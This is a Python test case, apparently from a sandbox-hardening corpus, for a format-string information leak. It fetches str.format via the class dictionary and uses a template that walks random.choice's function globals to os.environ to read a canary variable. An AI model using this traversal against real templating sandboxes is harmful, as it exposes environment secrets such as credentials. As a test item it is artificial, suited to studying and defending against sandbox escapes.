# id: str-format-unbound-descriptor
# family: format-strings
# kind: information-leak
# invariant: D, E
# origin: a change to Jinja's sandbox that covers unbound methods
# technique: format read from str is a method descriptor, which guards for bound methods do not know
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import random

template = "{0.__func__.__globals__[_os].environ[PADCELL_CANARY]}"
print(str.__dict__["for" + "mat"](template, random.choice))
